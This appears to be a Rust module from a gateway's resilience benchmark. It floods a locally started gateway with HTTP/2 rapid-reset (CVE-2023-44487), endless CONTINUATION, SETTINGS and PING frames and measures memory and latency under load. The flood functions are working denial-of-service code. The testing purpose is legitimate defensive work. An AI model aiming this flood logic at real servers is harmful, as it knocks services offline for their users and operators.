//! Floods of HTTP/2: connections that ask for work and want no answer (resets, heads without end,
//! settings, pings), each opened anew as soon as it is closed. Who sends them is a program of its own, on
//! a processor of its own where the machine has one; where it has not, it gets what the good client
//! leaves of theirs.

use std::net::SocketAddr;
use std::time::{Duration, Instant};

use anyhow::{Context, Result, ensure};
use clap::ValueEnum;
use serde_json::{Value, json};
use tests::frames::{
    self, CONTINUATION, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, frame,
};
use tests::program;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;

use crate::accounts;
use crate::floods::{CALLING, Flooded, calling, follow};
use crate::gateways::{Gateway, Setup};
use crate::placement::Placement;
use crate::programs::find;
use crate::wire::Call;

/// Connections that flood at the same time.
const ATTACKERS: usize = 4;
/// Sent in one write.
const PIECE: usize = 16 * 1024;
/// What the attacker sends before the good client begins, and after it has ended.
const MARGIN: Duration = Duration::from_millis(300);

/// What is sent again and again.
#[derive(Clone, Copy, Debug, ValueEnum)]
pub(crate) enum Frames {
    /// Requests that are taken back at once (CVE-2023-44487).
    RapidReset,
    /// A head that never ends.
    Continuation,
    /// Settings, each of which is to be acknowledged.
    Settings,
    /// Pings, each of which is to be answered.
    Ping,
}

impl Frames {
    const ALL: [Self; 4] = [
        Self::RapidReset,
        Self::Continuation,
        Self::Settings,
        Self::Ping,
    ];

    const fn name(self) -> &'static str {
        match self {
            Self::RapidReset => "HTTP/2: rapid reset",
            Self::Continuation => "HTTP/2: CONTINUATION",
            Self::Settings => "HTTP/2: SETTINGS",
            Self::Ping => "HTTP/2: PING",
        }
    }

    /// The next frames on a connection; `stream` is odd and grows.
    fn piece(self, stream: u32) -> Vec<u8> {
        let get = || frames::get("localhost");
        match self {
            Self::RapidReset => {
                let ends = END_HEADERS | END_STREAM;
                let mut piece = frame(HEADERS, ends, stream, &get());
                piece.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
                piece
            }
            Self::Continuation if stream == 1 => frame(HEADERS, END_STREAM, 1, &get()),
            Self::Continuation => frame(CONTINUATION, 0, 1, &[]),
            Self::Settings => frame(SETTINGS, 0, 0, &[]),
            Self::Ping => frame(PING, 0, 0, b"12345678"),
        }
    }

    /// As its argument.
    fn argument(self) -> String {
        let value = self.to_possible_value();
        value.map_or_else(String::new, |value| value.get_name().to_owned())
    }
}

/// What an attacker did.
#[derive(Clone, Copy, Debug, Default)]
struct Sent {
    connections: usize,
    /// Of those, how many were closed by the other side.
    closed: usize,
    bytes: usize,
}

/// Runs every flood whose name contains `only`, each on a gateway that was just started.
pub(crate) async fn measure(
    setup: Setup<'_>,
    placement: &Placement,
    only: &str,
) -> Result<Vec<Flooded>> {
    let chosen = Frames::ALL.into_iter();
    let chosen: Vec<Frames> = chosen.filter(|one| one.name().contains(only)).collect();
    let mut flooded = Vec::new();
    if chosen.is_empty() {
        return Ok(flooded);
    }
    let mut gateway = Gateway::start(setup).await?;
    let token = gateway.token("/").await?;
    for frames in chosen {
        gateway = gateway.restart().await?;
        let one = run(frames, &gateway, &token, placement).await;
        let one = one.with_context(|| frames.name())?;
        eprintln!("{one:?}");
        flooded.push(one);
    }
    gateway.listening.end().await;
    Ok(flooded)
}

async fn run(
    frames: Frames,
    gateway: &Gateway<'_>,
    token: &str,
    placement: &Placement,
) -> Result<Flooded> {
    let (address, id) = (gateway.listening.address, gateway.listening.id()?);
    let bearer = format!("Bearer {token}");
    let call = Call::search("/mcp", &address.to_string(), &[("Authorization", &bearer)]);
    let (calm, _) = follow(calling(address, call.clone(), CALLING)?, id).await?;
    let before = accounts::memory(id)?;
    let words = words(frames, address, placement)?;
    let attacking = tokio::spawn(attack(words));
    tokio::time::sleep(MARGIN).await;
    let (under, most) = follow(calling(address, call, CALLING)?, id).await?;
    let sent = attacking.await??;
    ensure!(sent.bytes > 0, "nothing was sent");
    tokio::time::sleep(Duration::from_secs(5)).await;
    let whose = match &placement.attacker {
        Some(processor) => format!("attacker on processor {processor}"),
        None => "attacker on the client's processor, at the lowest priority".to_owned(),
    };
    let megabytes = sent.bytes as f64 / 1e6;
    Ok(Flooded {
        name: format!(
            "{}, {ATTACKERS} at a time, {megabytes:.0} MB ({whose})",
            frames.name()
        ),
        connections: sent.connections,
        answered: sent.closed,
        before,
        during: most,
        after: accounts::memory(id)?,
        calm,
        under,
    })
}

/// The words that start the attacker.
fn words(frames: Frames, address: SocketAddr, placement: &Placement) -> Result<Vec<String>> {
    let mut words = Vec::new();
    match &placement.attacker {
        Some(processor) => {
            words.push(find("taskset")?.display().to_string());
            words.extend(["--cpu-list".to_owned(), processor.clone()]);
        }
        None => {
            words.push(find("nice")?.display().to_string());
            words.extend(["-n", "19"].map(String::from));
        }
    }
    let lasts = (CALLING + MARGIN * 2).as_millis().to_string();
    words.push(std::env::current_exe()?.display().to_string());
    words.extend(["send-frames".to_owned(), frames.argument()]);
    words.extend(["--to".to_owned(), address.to_string()]);
    words.extend(["--millis".to_owned(), lasts]);
    Ok(words)
}

async fn attack(words: Vec<String>) -> Result<Sent> {
    let (program, arguments) = words.split_first().context("there is a program")?;
    let (code, said, errors) = program::run(program.as_ref(), arguments, "").await?;
    ensure!(code == 0, "the attacker ended with {code}: {errors}");
    let said: Value = serde_json::from_str(&said)?;
    let number = |name: &str| said[name].as_u64().unwrap_or_default() as usize;
    Ok(Sent {
        connections: number("connections"),
        closed: number("closed"),
        bytes: number("bytes"),
    })
}

/// What the attacker's program does; it prints what it did.
pub(crate) async fn send(frames: Frames, address: SocketAddr, lasts: Duration) -> Result<()> {
    let end = Instant::now() + lasts;
    let mut attackers = tokio::task::JoinSet::new();
    for _ in 0..ATTACKERS {
        attackers.spawn(async move {
            let mut sent = Sent::default();
            while Instant::now() < end {
                // Who is not let in tries again.
                if flood(frames, address, end, &mut sent).await.is_err() {
                    tokio::time::sleep(Duration::from_millis(10)).await;
                }
            }
            sent
        });
    }
    let all = attackers.join_all().await;
    let sum = |of: fn(&Sent) -> usize| all.iter().map(of).sum::<usize>();
    let sent = json!({
        "connections": sum(|one| one.connections),
        "closed": sum(|one| one.closed),
        "bytes": sum(|one| one.bytes),
    });
    println!("{sent}");
    Ok(())
}

/// One connection, until it is closed or time is over.
async fn flood(frames: Frames, address: SocketAddr, end: Instant, sent: &mut Sent) -> Result<()> {
    let stream = TcpStream::connect(address).await?;
    sent.connections += 1;
    let (mut reading, mut writing) = stream.into_split();
    // What it answers is thrown away, or it could not go on.
    let mut ended = tokio::spawn(async move {
        let mut scratch = vec![0; 64 * 1024];
        while matches!(reading.read(&mut scratch).await, Ok(1..)) {}
    });
    frames::begin(&mut writing).await?;
    let mut stream = 1;
    while Instant::now() < end {
        let mut piece = Vec::with_capacity(PIECE + 64);
        while piece.len() < PIECE {
            piece.extend(frames.piece(stream));
            stream += 2;
        }
        tokio::select! {
            written = writing.write_all(&piece) => {
                if written.is_err() {
                    break;
                }
            }
            () = tokio::time::sleep_until(end.into()) => break,
        }
        sent.bytes += piece.len();
        if ended.is_finished() {
            break;
        }
    }
    let closing = tokio::time::timeout(Duration::from_millis(200), &mut ended).await;
    sent.closed += usize::from(closing.is_ok());
    ended.abort();
    Ok(())
}
